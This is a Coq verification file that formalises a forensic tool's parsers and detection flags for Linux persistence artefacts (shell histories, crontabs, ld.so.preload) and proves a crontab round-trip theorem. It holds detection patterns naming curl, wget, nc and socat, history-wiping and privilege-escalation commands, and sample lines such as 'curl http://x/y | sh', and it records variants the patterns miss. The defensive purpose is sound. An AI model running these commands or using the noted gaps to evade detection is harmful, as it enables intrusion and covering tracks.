(* ===== verification/LinuxPersist.v ===== *)
(** * Persistence artefacts of Linux ([services/linux_persistence_walker.py], the parsers)

    Shell histories, crontabs and ld.so.preload files: their lines, the fields of a cron
    line, and the suspicious flags of each entry.  A file is what reading it gives, [None]
    where that raises [OSError]. *)

From S2P Require Import Prelude PyText Regex PyLines PosixPath Json.
From Stdlib Require Import Ascii String.
Import (notations) Ascii String.
#[local] Open Scope Z_scope.

Definition _DEFAULT_MAX_LINE_BYTES : nat := 4096.
Definition _DEFAULT_MAX_FILE_BYTES : Z := 16 * 1024 * 1024.
Definition _DEFAULT_MAX_LINES_PER_FIRMWARE : Z := 100000.

(** ** Shell histories *)

Definition history_path : regex :=
  Seqs [one_of "~/."; Star (Chr (fun a => word_char a || has_char a "./-")); ilit ".bash_history"].

Definition _RE_BASH_CLEAR_HISTORY : regex :=
  Seq (Alts [Seq Bol (Star Blank); Seq (lit ";") (Star Blank); Seq (lit "|") (Star Blank); Seq (lit "&&") (Star Blank)])
    (Alts [Seqs [ilit "history"; Plus Blank; lit "-"; ione_of "cw"];
           Seqs [lit ":"; Star Blank; lit ">"; Star Blank; history_path];
           Seqs [lit ">"; Star Blank; history_path];
           Seqs [ilit "rm"; Plus Blank; lit "-"; Plus (ione_of "rf"); Plus Blank; history_path];
           Seqs [ilit "unset"; Plus Blank; ilit "HISTFILE"];
           Seqs [ilit "export"; Plus Blank; ilit "HISTFILE=/dev/null"];
           Seqs [ilit "export"; Plus Blank; ilit "HISTSIZE=0"];
           Seqs [ilit "set"; Plus Blank; lit "+"; ilit "o"; Plus Blank; ilit "history"]]).

Definition _RE_DOWNLOAD_PIPE_SHELL : regex :=
  Seqs [Alts [ilit "wget"; ilit "curl"]; Plus Blank; Plus (Chr (fun a => negb (is_space a || has_char a "|;&")));
        Star Blank; lit "|"; Star Blank; Alts [ilit "bash"; ilit "sh"; ilit "zsh"; ilit "ash"; ilit "dash"]; WordB].

Definition _RE_PRIV_ESC : regex :=
  Alts [Seqs [ilit "sudo"; Plus Blank; ilit "su"; Plus Blank; lit "-"];
        Seqs [ilit "sudo"; Plus Blank; ilit "-i"];
        Seqs [ilit "sudo"; Plus Blank; ilit "bash"];
        Seqs [ilit "chmod"; Plus Blank; lit "+"; ilit "s"; Blank];
        Seqs [ilit "chmod"; Plus Blank; Opt (one_of "01234567"); one_of "4567"; one_of "01234567"; one_of "01234567";
              one_of "01234567"; Blank];
        ilit "setuid("].

Definition classify_bash_history_line (command : string) : pydict :=
  [("clear_marker", JBool (search _RE_BASH_CLEAR_HISTORY command));
   ("download_pattern", JBool (search _RE_DOWNLOAD_PIPE_SHELL command));
   ("priv_esc_pattern", JBool (search _RE_PRIV_ESC command))].

(** ** Crontabs *)

Definition temp_dirs : regex := Alts [lit "/tmp/"; lit "/dev/shm/"; lit "/var/tmp/"; lit "/run/shm/"].

Definition _RE_CRON_TEMP_PATH : regex := Seq (Alts [Bol; Blank; lit ";"; lit "|"; lit "&"]) temp_dirs.

Definition _RE_CRON_NETWORK_EGRESS : regex :=
  Seqs [WordB; Alts [ilit "curl"; ilit "wget"; ilit "nc"; ilit "ncat"; ilit "netcat"; ilit "socat"]; WordB].

Definition classify_cron_line (schedule_spec : option string) (command : string) : pydict :=
  [("temp_path_command", JBool (search _RE_CRON_TEMP_PATH command));
   ("reboot_persistence", JBool match schedule_spec with Some s => contains "@reboot" (lower s) | None => false end);
   ("network_egress_pattern", JBool (search _RE_CRON_NETWORK_EGRESS command))].

(** ** ld.so.preload *)

Definition _WORLD_WRITABLE_PATTERNS : list string := ["/tmp/"; "/var/tmp/"; "/dev/shm/"; "/run/shm/"].

Definition _RE_LD_TEMP_PATH : regex := Seq Bol (Alts [lit "/tmp/"; lit "/dev/shm/"; lit "/var/tmp/"; lit "/run/shm/"]).

Definition _RE_EXPECTED_LIB_EXT : regex :=
  Seqs [lit ".so"; Opt (Seqs [lit "."; Plus Digit; Star (Seq (lit ".") (Plus Digit))]); Eol].

Definition classify_ld_preload_line (library_path : string) : pydict :=
  let path_norm := lower (strip library_path) in
  [("temp_path_library", JBool (search _RE_LD_TEMP_PATH path_norm));
   ("unusual_extension", JBool (negb (search _RE_EXPECTED_LIB_EXT path_norm)));
   ("world_writable_dir", JBool (existsb (startswith path_norm) _WORLD_WRITABLE_PATTERNS))].

(** ** Files *)

(** The numbered lines of a file; none if it cannot be read or is too large. *)
Definition numbered_lines (contents : option bytes) : list (Z * string) :=
  match contents with
  | None => []
  | Some raw =>
      if _DEFAULT_MAX_FILE_BYTES <? zlen raw then []
      else imap (fun i line => (Z.of_nat i + 1, line)) (splitlines (decode raw))
  end.

Record bash_entry := { be_line_number : Z; be_command : string }.

(** A line written by HISTTIMEFORMAT. *)
Definition is_timestamp (stripped : string) : bool :=
  match stripped with String "#" (String _ _ as digits) => all_chars is_digit digits | _ => false end.

Definition bash_line (l : Z * string) : option bash_entry :=
  let stripped := strip l.2 in
  if negb (truthy (Some stripped)) then None
  else if is_timestamp stripped then None
  else Some {| be_line_number := l.1; be_command := take_chars _DEFAULT_MAX_LINE_BYTES l.2 |}.

Definition _parse_bash_history_file (contents : option bytes) : list bash_entry := omap bash_line (numbered_lines contents).

Record cron_entry := {
  ce_line_number : Z;
  ce_schedule_spec : option string;
  ce_user : option string;
  ce_command : string
}.

Definition isalnum (s : string) : bool := truthy (Some s) && all_chars alnum s.

(** [KEY=VALUE] *)
Definition is_assignment (stripped : string) : bool :=
  let '(head, rest) := span (fun a => negb (is_char "="%char a)) stripped in
  truthy (Some rest) && truthy (Some head) && isalnum (replace_char "_"%char "" head) && negb (has_char " "%char head).

Definition _RE_CRON_SPECIAL_KEYWORD : regex :=
  Seqs [Bol; lit "@"; Alts [ilit "reboot"; ilit "hourly"; ilit "daily"; ilit "midnight"; ilit "weekly"; ilit "monthly";
                            ilit "yearly"; ilit "annually"]; WordB].

Definition field_char (a : ascii) : bool := is_digit a || has_char a "-*/,".

(** [n] fields, each with white space behind it, and what follows.  Fields and white space
    have no character in common, so there is one way to cut. *)
Fixpoint cron_fields (n : nat) (s : string) : option (list string * string) :=
  match n with
  | O => Some ([], s)
  | S n =>
      let '(field, t) := span field_char s in
      let '(space, rest) := span is_space t in
      if truthy (Some field) && truthy (Some space)
      then (fun r : list string * string => (field :: r.1, r.2)) <$> cron_fields n rest
      else None
  end.

(** The groups of [_RE_CRON_5FIELD], the sixth stripped. *)
Definition _RE_CRON_5FIELD (stripped : string) : option (list string * string) :=
  (fun r : list string * string => (r.1, strip r.2)) <$> cron_fields 5 (lstrip_if is_space stripped).

(** User and command of what follows the schedule. *)
Definition user_and_command (user_from_path : option string) (tail : string) : option string * string :=
  match user_from_path with
  | Some _ => (user_from_path, tail)
  | None =>
      match split_once tail with
      | Some (u, Some command) => (Some (take_chars 64 u), command)
      | Some (u, None) => (Some (take_chars 64 u), "")
      | None => (None, "")
      end
  end.

Definition cron_line (user_from_path : option string) (l : Z * string) : option cron_entry :=
  let stripped := strip l.2 in
  if negb (truthy (Some stripped)) || startswith stripped "#" then None
  else if is_assignment stripped then None
  else
    let '(schedule_spec, (user, command)) :=
      if match_start _RE_CRON_SPECIAL_KEYWORD stripped then
        let '(keyword, rest) := span not_space stripped in
        (Some keyword, user_and_command user_from_path (strip rest))
      else
        match _RE_CRON_5FIELD stripped with
        | Some (fields, tail) => (Some (PyText.join " " fields), user_and_command user_from_path tail)
        | None => (None, (user_from_path, take_chars _DEFAULT_MAX_LINE_BYTES stripped))
        end in
    Some {| ce_line_number := l.1;
            ce_schedule_spec := s ← schedule_spec; if truthy (Some s) then Some (take_chars 128 s) else None;
            ce_user := user;
            ce_command := take_chars _DEFAULT_MAX_LINE_BYTES command |}.

(** [user_from_path]: the name of the file where that is the user. *)
Definition _parse_crontab_file (user_from_path : option string) (contents : option bytes) : list cron_entry :=
  omap (cron_line user_from_path) (numbered_lines contents).

Record preload_entry := { pe_line_number : Z; pe_library_path : string }.

Definition preload_line (l : Z * string) : list preload_entry :=
  let stripped := strip l.2 in
  if negb (truthy (Some stripped)) || startswith stripped "#" then []
  else (fun token => {| pe_line_number := l.1; pe_library_path := take_chars _DEFAULT_MAX_LINE_BYTES token |}) <$> split stripped.

Definition _parse_ld_so_preload_file (contents : option bytes) : list preload_entry := numbered_lines contents ≫= preload_line.

(** ** Writing crontabs *)

Lemma take_chars_all (n : nat) (s : string) : py_len s <= Z.of_nat n -> take_chars n s = s.
Proof.
  revert n. induction s as [|a s IH]; intros n H; [done|]. cbn in *. destruct (is_cont a) eqn:E; [by rewrite IH by lia|].
  pose proof (py_len_nonneg s). destruct n as [|n]; [lia|]. by rewrite IH by lia.
Qed.

Lemma all_chars_app (f : ascii -> bool) (s t : string) : all_chars f (s +:+ t) = all_chars f s && all_chars f t.
Proof. unfold all_chars. induction s as [|a s IH]; [done|]. rewrite append_cons. cbn. by rewrite IH, andb_assoc. Qed.

Lemma all_chars_cons (f : ascii -> bool) (a : ascii) (s : string) : all_chars f (String a s) = f a && all_chars f s.
Proof. done. Qed.

Lemma all_chars_impl (f g : ascii -> bool) (s : string) :
  (forall a, f a = true -> g a = true) -> all_chars f s = true -> all_chars g s = true.
Proof.
  unfold all_chars. intros H. induction s as [|a s IH]; [done|]. cbn. intros [Ha Hs]%andb_true_iff. by rewrite (H a Ha), IH.
Qed.

(** What [span] takes off a text that was put together. *)
Lemma span_app (f : ascii -> bool) (w : string) (b : ascii) (t : string) :
  all_chars f w = true -> f b = false -> span f (w +:+ String b t) = (w, String b t).
Proof. intros Hw Hb. apply span_spec. by split_and!. Qed.

(** Text without white space at its ends. *)
Definition trimmed (s : string) : Prop :=
  match s with String a _ => is_space a = false | "" => False end /\ rstrip_if is_space s = s.

Lemma strip_trimmed (s : string) : trimmed s -> strip s = s.
Proof. intros [H1 H2]. unfold strip. destruct s as [|a s]; [done|]. cbn [lstrip_if]. by rewrite H1. Qed.

Lemma trimmed_app (s t : string) :
  match s with String a _ => is_space a = false | "" => False end -> trimmed t -> trimmed (s +:+ t).
Proof.
  intros Hs [Ht1 Ht2]. split.
  - destruct s as [|a s]; [done|]. by rewrite append_cons.
  - rewrite rstrip_if_app_r; [by rewrite Ht2|]. rewrite Ht2. by destruct t.
Qed.

Lemma lstrip_trimmed (s : string) : trimmed s -> lstrip_if is_space s = s.
Proof. intros [H _]. destruct s as [|a s]; [done|]. cbn [lstrip_if]. by rewrite H. Qed.

(** A job of a system crontab. *)
Record cron_job := { fields : list string; job_user : string; job_command : string }.

Definition schedule (j : cron_job) : string := PyText.join " " j.(fields).
Definition job_line (j : cron_job) : string := foldr (fun f t => f +:+ String " " t) (j.(job_user) +:+ String " " j.(job_command)) j.(fields).

Definition job_ok (j : cron_job) : Prop :=
  List.length j.(fields) = 5%nat /\ Forall (fun f => f <> "" /\ all_chars field_char f = true) j.(fields) /\
  py_len (schedule j) <= 128 /\ j.(job_user) <> "" /\ all_chars not_space j.(job_user) = true /\ py_len j.(job_user) <= 64 /\
  trimmed j.(job_command) /\ py_len j.(job_command) <= 4096 /\ all_chars inline (job_line j) = true.

Lemma field_not_space (a : ascii) : field_char a = true -> not_space a = true.
Proof. unfold not_space. intros H. destruct (is_space a) eqn:E; [|done]. exfalso. by destruct a as [[] [] [] [] [] [] [] []]. Qed.

Lemma field_not_eq (a : ascii) : field_char a = true -> negb (is_char "=" a) = true.
Proof. intros H. destruct (negb _) eqn:E; [done|]. exfalso. apply negb_false_iff, bool_decide_eq_true in E. by subst a. Qed.

Lemma cron_fields_foldr (l : list string) (t : string) :
  Forall (fun f => f <> "" /\ all_chars field_char f = true) l -> match t with String a _ => is_space a = false | "" => False end ->
  cron_fields (List.length l) (foldr (fun f t => f +:+ String " " t) t l) = Some (l, t).
Proof.
  intros Hl Ht. induction Hl as [|f l [Hne Hf] Hl IH]; [done|]. cbn [List.length foldr cron_fields].
  rewrite span_app by done. set (rest := foldr _ t l) in *.
  assert (Hr : match rest with String a _ => is_space a = false | "" => False end).
  { unfold rest. destruct Hl as [|g l [Hg1 Hg2] _]; [done|]. cbn [foldr]. destruct g as [|a g]; [done|]. rewrite append_cons.
    rewrite all_chars_cons in Hg2. apply andb_true_iff in Hg2 as [Ha _]. apply field_not_space in Ha. by apply negb_true_iff. }
  assert (Hs : span is_space (String " " rest) = (" ", rest)).
  { apply span_spec. split_and!; [done|done|]. by destruct rest. }
  rewrite Hs, IH. destruct f as [|a f]; [done|]. done.
Qed.

Section Job.
Context (j : cron_job) (Hj : job_ok j).

Lemma tail_trimmed : trimmed (j.(job_user) +:+ String " " j.(job_command)).
Proof.
  destruct Hj as (_ & _ & _ & Hu & Hus & _ & Hc & _). change (String " " j.(job_command)) with (" " +:+ j.(job_command)).
  rewrite <- append_assoc. apply trimmed_app; [|done]. destruct (job_user j) as [|a u]; [done|]. rewrite append_cons.
  rewrite all_chars_cons in Hus. apply andb_true_iff in Hus as [H _]. by apply negb_true_iff.
Qed.

Lemma line_shape : exists a w t, job_line j = String a w +:+ String " " t /\ field_char a = true /\ all_chars field_char w = true /\
  trimmed (job_line j).
Proof.
  pose proof tail_trimmed as Ht. destruct Hj as (Hlen & Hf & _). unfold job_line. set (tail := _ +:+ String " " _) in *. clearbody tail.
  assert (H : forall l, Forall (fun f => f <> "" /\ all_chars field_char f = true) l -> trimmed (foldr (fun f t => f +:+ String " " t) tail l)).
  { induction 1 as [|f l [Hne Hfc] _ IH]; [done|]. cbn [foldr]. set (r := foldr _ tail l) in *. change (String " " r) with (" " +:+ r).
    rewrite <- append_assoc. apply trimmed_app; [|done]. destruct f as [|a f]; [done|]. rewrite append_cons.
    rewrite all_chars_cons in Hfc. apply andb_true_iff in Hfc as [Ha _]. apply field_not_space in Ha. by apply negb_true_iff. }
  specialize (H _ Hf). destruct j.(fields) as [|f l]; [done|]. inversion Hf as [|? ? [Hne Hfc] _]; subst.
  destruct f as [|a w]; [done|]. rewrite all_chars_cons in Hfc. apply andb_true_iff in Hfc as [Ha Hw].
  exists a, w, (foldr (fun f t => f +:+ String " " t) tail l). by split_and!.
Qed.

Lemma not_assignment : is_assignment (job_line j) = false.
Proof.
  destruct line_shape as (a & w & t & -> & Ha & Hw & _). unfold is_assignment.
  destruct (span _ _) as [head rest] eqn:E. apply span_spec in E as (E & Hh & Hr).
  destruct (has_char " " head) eqn:Hs; [by rewrite andb_false_r|]. exfalso.
  assert (Hlong : forall u v, all_chars field_char u = true -> has_char " " v = false -> u +:+ String " " t = v +:+ rest ->
    match rest with String b _ => negb (is_char "=" b) = false | "" => True end -> False).
  { clear. intros u. induction u as [|b u IH]; intros v Hu Hv E Hr.
    - destruct v as [|c v]; rewrite ?append_nil_l in E; [by subst rest; vm_compute in Hr|]. rewrite append_cons in E. injection E as <- _.
      cbn in Hv. done.
    - rewrite all_chars_cons in Hu. apply andb_true_iff in Hu as [Hb Hu]. rewrite append_cons in E. destruct v as [|c v].
      + rewrite append_nil_l in E. subst rest. apply field_not_eq in Hb. by rewrite Hb in Hr.
      + rewrite append_cons in E. injection E as <- E. cbn in Hv. apply orb_false_iff in Hv as [_ Hv]. by apply (IH v). }
  eapply (Hlong (String a w) head); [by rewrite all_chars_cons, Ha|done|done|done].
Qed.

Lemma not_special : match_start _RE_CRON_SPECIAL_KEYWORD (job_line j) = false.
Proof.
  destruct line_shape as (a & w & t & -> & Ha & _). rewrite append_cons. unfold match_start, _RE_CRON_SPECIAL_KEYWORD.
  cbn [Seqs accepts lit]. destruct (is_char "@" a) eqn:E; [|done]. apply bool_decide_eq_true in E. by subst a.
Qed.

Lemma cron_line_job (n : Z) :
  cron_line None (n, job_line j) =
    Some {| ce_line_number := n; ce_schedule_spec := Some (schedule j); ce_user := Some j.(job_user); ce_command := j.(job_command) |}.
Proof.
  destruct line_shape as (a & w & t & E & Ha & _ & Htrim). pose proof tail_trimmed as Ht. unfold cron_line. cbn [fst snd].
  rewrite (strip_trimmed _ Htrim), not_assignment, not_special.
  assert (Hstart : negb (truthy (Some (job_line j))) || startswith (job_line j) "#" = false).
  { rewrite E, append_cons. cbn [truthy negb orb]. destruct (startswith _ "#") eqn:E2; [|done]. exfalso.
    apply startswith_spec in E2 as [r E2]. rewrite append_cons in E2. injection E2 as -> _. done. }
  rewrite Hstart. unfold _RE_CRON_5FIELD. rewrite (lstrip_trimmed _ Htrim).
  destruct Hj as (Hlen & Hf & Hs & Hu & Hus & Hu64 & Hc & Hc4 & _). unfold job_line.
  pose proof (cron_fields_foldr j.(fields) _ Hf (proj1 Ht)) as Hcf. rewrite Hlen in Hcf. rewrite Hcf. clear Hcf. cbn [fmap option_fmap option_map fst snd].
  rewrite (strip_trimmed _ Ht). unfold user_and_command, split_once. rewrite span_app by done.
  assert (Hl : lstrip_if is_space (String " " j.(job_command)) = j.(job_command)) by (cbn [lstrip_if]; by apply lstrip_trimmed).
  rewrite Hl. fold (schedule j). destruct (job_user j) as [|b u] eqn:Eu; [done|]. destruct Hc as [Hc1 Hc2].
  destruct (job_command j) as [|c cmd] eqn:Ec; [done|]. cbn [truthy]. rewrite (take_chars_all 64), (take_chars_all _DEFAULT_MAX_LINE_BYTES) by done.
  assert (Hsch : (s ← Some (schedule j); if truthy (Some s) then Some (take_chars 128 s) else None) = Some (schedule j)).
  { assert (Hne : truthy (Some (schedule j)) = true).
    { unfold schedule. destruct j.(fields) as [|f l]; [done|]. inversion Hf as [|? ? [Hne _] _]; subst. destruct f; [done|]. by destruct l. }
    unfold mbind, option_bind. by rewrite Hne, (take_chars_all 128). }
  f_equal. f_equal. exact Hsch.
Qed.
End Job.
Definition ascii7 (a : ascii) : bool := Z.of_N (N_of_ascii a) <? 128.

Lemma utf8_ascii (s : string) : all_chars ascii7 s = true -> utf8 (encode s).
Proof.
  unfold all_chars. induction s as [|a s IH]; [constructor|]. cbn [String.list_ascii_of_string forallb]. intros [Ha Hs]%andb_true_iff.
  apply u_ascii; [|by apply IH]. by destruct a as [[] [] [] [] [] [] [] []].
Qed.

Lemma decode_ascii (s : string) : all_chars ascii7 s = true -> decode (encode s) = s.
Proof. intros H. unfold decode. by rewrite (decode_utf8 _ (utf8_ascii s H)), decode_encode. Qed.

Definition text_of_lines (l : list string) : string := foldr (fun l t => l +:+ nl +:+ t) "" l.

Lemma lines_ascii (l : list string) : Forall (fun x => all_chars inline x = true) l -> all_chars ascii7 (text_of_lines l) = true.
Proof.
  induction 1 as [|x l Hx _ IH]; [done|]. unfold text_of_lines in *. cbn [foldr]. rewrite !all_chars_app, IH, andb_true_r.
  eapply all_chars_impl; [|exact Hx]. intros a Ha.
  unfold inline in Ha. by apply andb_true_iff in Ha as [_ ?].
Qed.

(** The numbered lines of a file written line by line. *)
Lemma numbered_lines_text (l : list string) :
  Forall (fun x => all_chars inline x = true) l -> zlen (encode (text_of_lines l)) <= _DEFAULT_MAX_FILE_BYTES ->
  numbered_lines (Some (encode (text_of_lines l))) = imap (fun i line => (Z.of_nat i + 1, line)) l.
Proof.
  intros Hl Hsize. unfold numbered_lines. destruct (_ <? _) eqn:E; [lia|]. rewrite decode_ascii by by apply lines_ascii.
  unfold text_of_lines. by rewrite splitlines_lines.
Qed.

Definition entry_of_job (n : Z) (j : cron_job) : cron_entry :=
  {| ce_line_number := n; ce_schedule_spec := Some (schedule j); ce_user := Some j.(job_user); ce_command := j.(job_command) |}.

Lemma omap_imap_job (f : nat -> Z) (jobs : list cron_job) :
  Forall job_ok jobs ->
  omap (cron_line None) (imap (fun i line => (f i, line)) (job_line <$> jobs)) = imap (fun i j => entry_of_job (f i) j) jobs.
Proof.
  intros H. revert f. induction H as [|j jobs Hj _ IH]; intros f; [done|]. rewrite fmap_cons, !imap_cons.
  cbn [omap list_omap]. rewrite (cron_line_job j Hj). f_equal. apply (IH (fun i => f (S i))).
Qed.

(** C31. A system crontab written job by job - five fields, user and command on one line -
    parses back to these jobs with the numbers of their lines. *)
Theorem crontab_roundtrip (jobs : list cron_job) :
  Forall job_ok jobs -> zlen (encode (text_of_lines (job_line <$> jobs))) <= _DEFAULT_MAX_FILE_BYTES ->
  _parse_crontab_file None (Some (encode (text_of_lines (job_line <$> jobs)))) =
    imap (fun i j => entry_of_job (Z.of_nat i + 1) j) jobs.
Proof.
  intros Hj Hs. unfold _parse_crontab_file. rewrite numbered_lines_text; [by apply omap_imap_job| |done].
  apply Forall_fmap. eapply Forall_impl; [exact Hj|]. by intros j (_ & _ & _ & _ & _ & _ & _ & _ & H).
Qed.

Definition two_jobs : list cron_job :=
  [{| fields := ["*/5"; "*"; "*"; "*"; "1-5"]; job_user := "root"; job_command := "/usr/sbin/logrotate -s FOO=1" |};
   {| fields := ["0"; "3"; "1,15"; "*"; "*"]; job_user := "www"; job_command := "sh /tmp/.x" |}].

Lemma crontab_roundtrip_witness :
  _parse_crontab_file None (Some (encode (text_of_lines (job_line <$> two_jobs)))) =
    [{| ce_line_number := 1; ce_schedule_spec := Some "*/5 * * * 1-5"; ce_user := Some "root";
        ce_command := "/usr/sbin/logrotate -s FOO=1" |};
     {| ce_line_number := 2; ce_schedule_spec := Some "0 3 1,15 * *"; ce_user := Some "www"; ce_command := "sh /tmp/.x" |}].
Proof.
  rewrite (crontab_roundtrip two_jobs); [done| |by vm_compute].
  repeat constructor; try done; vm_compute; done.
Defined.

(** ** Facts on the flags *)

(** A pattern that begins with [^] is only tried at the start. *)
Lemma search_bol (r : regex) (s : string) : search (Seq Bol r) s = accepts r anything None s.
Proof.
  assert (H : forall c t, search_from (Seq Bol r) (Some c) t = false).
  { intros c t. revert c. induction t as [|a t IH]; intros c; [done|]. cbn [search_from]. by rewrite IH. }
  unfold search. rewrite search_from_eq. by destruct s as [|a s]; [|rewrite H]; rewrite orb_false_r.
Qed.

Lemma accepts_lit (t : string) (p : option ascii) (s : string) : accepts (lit t) anything p s = startswith s t.
Proof.
  revert p s. induction t as [|a t IH]; intros p s; [by destruct s|]. cbn [lit accepts]. destruct s as [|b s]; [done|].
  rewrite IH. cbn [startswith]. unfold is_char. by repeat case_match; repeat case_bool_decide.
Qed.

(** The first and the last flag of an ld.so.preload entry are one and the same test. *)
Lemma preload_flags_coincide (library_path : string) :
  dict_get "temp_path_library" (classify_ld_preload_line library_path) =
  dict_get "world_writable_dir" (classify_ld_preload_line library_path).
Proof.
  unfold classify_ld_preload_line. set (s := lower _).
  change (Some (JBool (search _RE_LD_TEMP_PATH s)) = Some (JBool (existsb (startswith s) _WORLD_WRITABLE_PATTERNS))). do 2 f_equal.
  unfold _RE_LD_TEMP_PATH. rewrite search_bol. unfold Alts. cbn [accepts]. rewrite !accepts_lit. cbn [existsb _WORLD_WRITABLE_PATTERNS].
  by destruct (startswith s "/tmp/"), (startswith s "/var/tmp/"), (startswith s "/dev/shm/"), (startswith s "/run/shm/").
Qed.

(** ** On concrete lines *)

Definition file (s : string) : option bytes := Some (encode s).

Example bash_ex :
  _parse_bash_history_file (file ("#1700000000" +:+ nl +:+ "ls -la" +:+ nl +:+ nl +:+ "cat x; history  -C" +:+ nl)) =
    [{| be_line_number := 2; be_command := "ls -la" |}; {| be_line_number := 4; be_command := "cat x; history  -C" |}] /\
  dict_get "clear_marker" (classify_bash_history_line "cat x; history  -C") = Some (JBool true).
Proof. by vm_compute. Qed.

(** Neither an option before the address nor a command before the redirection is expected. *)
Example patterns_miss :
  dict_get "download_pattern" (classify_bash_history_line "curl http://x/y | sh") = Some (JBool true) /\
  dict_get "download_pattern" (classify_bash_history_line "curl -s http://x/y | sh") = Some (JBool false) /\
  dict_get "clear_marker" (classify_bash_history_line "> ~/.bash_history") = Some (JBool true) /\
  dict_get "clear_marker" (classify_bash_history_line "cat /dev/null > ~/.bash_history") = Some (JBool false).
Proof. by vm_compute. Qed.

(** Names of days are no fields: the line is kept whole, without schedule and user. *)
Example day_names :
  _parse_crontab_file None (file "0 0 * * MON root sync") =
    [{| ce_line_number := 1; ce_schedule_spec := None; ce_user := None; ce_command := "0 0 * * MON root sync" |}].
Proof. by vm_compute. Qed.
